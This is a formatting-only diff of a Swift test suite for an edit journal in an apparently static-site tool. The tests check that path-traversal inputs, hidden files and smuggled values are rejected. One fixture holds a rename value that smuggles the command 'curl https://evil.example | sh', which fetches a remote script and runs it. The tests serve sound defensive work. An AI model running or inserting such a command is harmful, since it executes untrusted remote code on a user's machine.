@@ -23,7 +23,8 @@ struct EditJournalTests {
     #expect(parsed(steps)?.edit == EditName(.rename, "a", "b"))
   }
 
-  @Test("changes documents of the content and nothing else, even if it bears the right mark",
+  @Test(
+    "changes documents of the content and nothing else, even if it bears the right mark",
     arguments: [
       "../a.md", "content/../../a.md", "content/a.md/", "content//a.md", "/content/a.md", "content/.hidden/a.md",
       "content/pages/.a.md", "content/pages/photo.png", "dossier.yaml", "content/pages/a\u{1B}.md", "content",
@@ -32,7 +33,8 @@ struct EditJournalTests {
     #expect(parsed([.init(path: path, temporary: nil, before: Self.digest, after: nil)]) == nil)
   }
 
-  @Test("names only temporary files of the kind that edits make",
+  @Test(
+    "names only temporary files of the kind that edits make",
     arguments: [
       "content/pages/other.md", "content/pages/.dossier-edit-", "content/pages/.dossier-edit-x", "../.dossier-edit-0",
       "content/.dossier-edit-0", "content/pages/.dossier-edit-00", "content/pages/.dossier-edit--1",
@@ -74,7 +76,10 @@ struct EditJournalTests {
       "dossier-edit 1\ncommitted\nrename p q; curl https://evil.example | sh\n-\t-\tcontent/pages/about.md\nend\n",
       EditJournal(
         .committed, EditName(.rename, "p", "q; curl https://evil.example | sh"),
-        [.init(path: "content/pages/about.md", temporary: nil, before: EditJournal.digest(Array(page.utf8)), after: nil)]
+        [
+          .init(
+            path: "content/pages/about.md", temporary: nil, before: EditJournal.digest(Array(page.utf8)), after: nil)
+        ]
       ).text(nil),
     ] {
       try site.write(journal, to: ".dossier/edit-journal")
@@ -128,6 +133,9 @@ struct EditJournalTests {
     }
     #expect(try outside.content("about.md") == "precious")
     #expect(try outside.content(".dossier-edit-0") == "precious")
-    #expect(try FileManager.default.contentsOfDirectory(atPath: outside.root).sorted() == [".dossier-edit-0", "about.md", "content", "dossier.yaml"])
+    #expect(
+      try FileManager.default.contentsOfDirectory(atPath: outside.root).sorted() == [
+        ".dossier-edit-0", "about.md", "content", "dossier.yaml",
+      ])
   }
 }
